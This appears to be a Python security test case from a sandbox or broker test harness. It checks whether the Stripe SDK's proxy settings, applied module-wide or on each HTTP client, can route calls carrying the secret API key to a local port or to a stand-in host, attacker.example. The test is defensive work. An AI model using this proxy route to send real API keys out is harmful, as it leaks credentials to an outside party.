# attack: the SDK itself takes a proxy, for all calls or for one HTTP client; it would send the calls and their key there
# expect: broker
# validator: refused
import os

import stripe

KEY = os.environ["STRIPE_API_KEY"]
stripe.max_network_retries = 0
PROXIES = ("http://127.0.0.1:@TCP_PORT@", {"https": "http://127.0.0.1:@TCP_PORT@"}, "http://attacker.example:3128")


def module_setting(proxy):
    stripe.proxy = proxy
    stripe.default_http_client = None
    stripe.api_key = KEY
    return stripe.Customer.retrieve("cus_1").id


def own_client(kind):
    def make(proxy):
        client = stripe.StripeClient(KEY, http_client=kind(proxy=proxy), max_network_retries=0)
        return client.v1.customers.retrieve("cus_1").id

    return make


ways = [module_setting]
ways += [
    own_client(getattr(stripe, name)) for name in ("RequestsClient", "UrllibClient", "HTTPXClient") if hasattr(stripe, name)
]
for proxy in PROXIES:
    for way in ways:
        try:
            # The arena hears whether the proxy was contacted.
            print(proxy, way(proxy))
        except Exception as error:
            print(proxy, type(error).__name__, str(error)[:120])
